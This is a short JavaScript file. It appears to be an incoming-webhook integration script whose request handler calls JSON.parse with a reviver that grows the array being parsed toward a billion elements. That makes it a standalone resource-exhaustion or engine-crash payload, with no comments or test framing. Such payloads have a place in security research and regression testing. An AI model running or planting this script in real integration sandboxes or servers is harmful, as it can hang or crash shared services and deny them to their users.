class Script {
  process_incoming_request({ request }) {
    JSON.parse('[0,0]', function (k, v) { if (Array.isArray(this) && this.length < 1e9) this.length++, this[this.length - 1] = { k }; return { v }; });
  }
}
